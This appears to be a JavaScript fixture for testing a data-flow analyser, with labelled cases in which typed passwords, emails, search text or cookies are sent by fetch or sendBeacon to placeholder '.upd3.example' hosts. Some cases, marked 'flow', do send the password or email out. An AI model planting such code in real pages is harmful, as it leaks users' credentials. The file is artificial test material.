//# variable-reassigned
// no flow
let v1 = document.querySelector('input[type=password]').value;
console.log(v1.length);
v1 = 'gone';
fetch('https://var.upd3.example/', { method: 'POST', body: v1 });

//# property-overwritten
// no flow
const o2 = { pw: document.querySelector('input[type=password]').value };
o2.pw = null;
fetch('https://prop.upd3.example/', { method: 'POST', body: JSON.stringify(o2) });

//# spread-overrides
// flow: email > spread.upd3.example via fetch
// why: near miss: the later property takes the place of the spread one
const form3 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://spread.upd3.example/', { method: 'POST', body: JSON.stringify({ ...form3, password: undefined }) });

//# spread-does-not-override
// flow: password > spr0.upd3.example via fetch
// why: the spread comes later and brings the typed text back
const form4 = { password: document.querySelector('input[type=password]').value };
fetch('https://spr0.upd3.example/', { method: 'POST', body: JSON.stringify({ password: '', ...form4 }) });

//# assign-overrides
// no flow
// why: the last source of Object.assign wins
const p5 = Object.assign({}, { pw: document.querySelector('input[type=password]').value }, { pw: '***' });
fetch('https://asg.upd3.example/', { method: 'POST', body: JSON.stringify(p5) });

//# property-deleted-by-index
// no flow
const o6 = { pw: document.querySelector('input[type=password]').value, n: 1 };
delete o6['pw'];
navigator.sendBeacon('https://del.upd3.example/', JSON.stringify(o6));

//# deleted-by-helper
// no flow
// why: the helper deletes the property of the object that it is given
function clean7(o) { delete o.pw; return o; }
const o7 = { pw: document.querySelector('input[type=password]').value, n: 1 };
fetch('https://help.upd3.example/', { method: 'POST', body: JSON.stringify(clean7(o7)) });

//# overwritten-by-helper
// no flow
// why: the helper overwrites the property before the object is sent
function mask8(o) { o.pw = '***'; }
const o8 = { pw: document.querySelector('input[type=password]').value };
mask8(o8);
fetch('https://mask.upd3.example/', { method: 'POST', body: JSON.stringify(o8) });

//# array-emptied-by-length
// no flow
const l9 = [document.querySelector('input[type=email]').value];
l9.length = 0;
l9.push('x');
fetch('https://len.upd3.example/', { method: 'POST', body: l9.join() });

//# array-emptied-by-splice
// no flow
const l10 = [document.querySelector('input[type=email]').value];
l10.splice(0);
fetch('https://spl.upd3.example/', { method: 'POST', body: JSON.stringify(l10) });

//# array-element-overwritten
// no flow
const l11 = [document.querySelector('input[type=email]').value, 'b'];
l11[0] = 'a';
fetch('https://elem.upd3.example/', { method: 'POST', body: JSON.stringify(l11) });

//# array-fill
// no flow
const l12 = [document.querySelector('input[type=email]').value];
l12.fill('-');
fetch('https://fill.upd3.example/', { method: 'POST', body: JSON.stringify(l12) });

//# map-entry-deleted
// no flow
const m13 = new Map();
m13.set('pw', document.querySelector('input[type=password]').value);
m13.delete('pw');
fetch('https://mdel.upd3.example/', { method: 'POST', body: JSON.stringify([...m13]) });

//# map-entry-set-again
// no flow
const m14 = new Map();
m14.set('pw', document.querySelector('input[type=password]').value);
m14.set('pw', '');
fetch('https://mset.upd3.example/', { method: 'POST', body: JSON.stringify(Object.fromEntries(m14)) });

//# set-cleared
// no flow
const s15 = new Set([document.querySelector('input[type=email]').value]);
s15.clear();
fetch('https://sclr.upd3.example/', { method: 'POST', body: JSON.stringify([...s15]) });

//# params-set-again
// no flow
const q16 = new URLSearchParams();
q16.set('e', document.querySelector('input[type=email]').value);
q16.set('e', 'none');
fetch('https://par.upd3.example/?' + q16);

//# params-deleted
// flow: search > pard.upd3.example via fetch
// why: near miss: the password is deleted from the parameters
const q17 = new URLSearchParams({ s: document.querySelector('input[type=search]').value, p: document.querySelector('input[type=password]').value });
q17.delete('p');
fetch('https://pard.upd3.example/?' + q17.toString());

//# url-search-cleared
// no flow
const u18 = new URL('https://urls.upd3.example/');
u18.searchParams.set('e', document.querySelector('input[type=email]').value);
u18.search = '';
fetch(u18);

//# headers-deleted
// no flow
const h19 = new Headers({ 'X-Id': document.cookie });
h19.delete('X-Id');
fetch('https://hdr.upd3.example/', { headers: h19 });

//# form-data-deleted
// no flow
const f20 = new FormData();
f20.append('pw', document.querySelector('input[type=password]').value);
f20.delete('pw');
fetch('https://fd.upd3.example/', { method: 'POST', body: f20 });

//# field-cleared-in-method
// no flow
// why: clear() runs before send()
class Draft21 {
  constructor() { this.text = document.querySelector('textarea[name=message]').value; }
  clear() { this.text = ''; return this; }
  send() { fetch('https://cls.upd3.example/', { method: 'POST', body: this.text }); }
}
const d21 = new Draft21();
d21.text = '';
d21.send();

//# finally-resets
// no flow
// why: finally runs before what stands after the try
let v22;
try { v22 = document.querySelector('input[type=password]').value; } finally { v22 = ''; }
fetch('https://fin.upd3.example/', { method: 'POST', body: v22 });

//# snapshot-before
// no flow
// why: the copy was made before the typed text was stored
const st23 = { note: '' };
const copy23 = Object.assign({}, st23);
st23.note = document.querySelector('textarea[name=message]').value;
fetch('https://snap.upd3.example/', { method: 'POST', body: JSON.stringify(copy23) });

//# text-before
// no flow
// why: the text was made before the typed text was stored
const st24 = { note: '' };
const text24 = JSON.stringify(st24);
st24.note = document.querySelector('textarea[name=message]').value;
fetch('https://text.upd3.example/', { method: 'POST', body: text24 });

//# sent-before-stored
// no flow
// why: the request is made before the property gets the cookie
const st25 = {};
fetch('https://bef.upd3.example/', { method: 'POST', body: JSON.stringify(st25) });
st25.id = document.cookie;

//# pushed-after-join
// no flow
const l26 = ['start'];
const line26 = l26.join();
l26.push(document.querySelector('input[type=email]').value);
fetch('https://join.upd3.example/', { method: 'POST', body: line26 });

//# destructured-before-store
// no flow
const cfg27 = { id: 'none' };
const { id: id27 } = cfg27;
cfg27.id = localStorage.getItem('uid');
fetch('https://dst.upd3.example/?i=' + id27);

//# conditional-overwrite
// flow: email > cond.upd3.example via fetch
// why: only one way overwrites the value
let v28 = document.querySelector('input[type=email]').value;
if (navigator.doNotTrack === '1') v28 = '';
fetch('https://cond.upd3.example/', { method: 'POST', body: v28 });

//# stored-later-in-handler
// flow: email > late.upd3.example via fetch
// why: the handler of the second event runs after that of the first
const st29 = { mail: '' };
document.querySelector('input[type=email]').addEventListener('change', (e) => { st29.mail = e.target.value; });
document.querySelector('form').addEventListener('submit', () => fetch('https://late.upd3.example/', { method: 'POST', body: JSON.stringify(st29) }));

//# replaced-in-loop
// flow: search > loop.upd3.example via fetch
// why: the second round sends what the first has stored
let last30 = '';
for (const el of document.querySelectorAll('input[type=search]')) {
  if (last30) fetch('https://loop.upd3.example/?q=' + last30);
  last30 = el.value;
}

//# value-hashed-to-length
// no flow
const pw31 = document.querySelector('input[type=password]').value;
fetch('https://hash.upd3.example/?ok=' + /[A-Z]/.test(pw31) + '&n=' + pw31.length + '&e=' + (pw31 === '') + '&t=' + typeof pw31);

//# swapped
// no flow
let a32 = document.querySelector('input[type=password]').value;
let b32 = 'x';
[a32, b32] = [b32, a32];
fetch('https://swap.upd3.example/', { method: 'POST', body: a32 });
